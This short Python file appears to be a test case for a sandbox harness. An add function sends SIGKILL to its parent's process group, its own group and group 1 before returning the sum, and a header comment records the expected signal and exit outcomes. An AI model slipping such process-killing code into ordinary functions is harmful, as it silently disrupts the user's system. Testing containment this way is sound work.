# {"tries": "kills its process group, and the groups of its parents", "right": ["signal", "exited"]}
import os
import signal


def add(a, b):
    for group in (os.getppid(), 1, 0):
        try:
            os.killpg(group, signal.SIGKILL)
        except OSError:
            pass
    return a + b
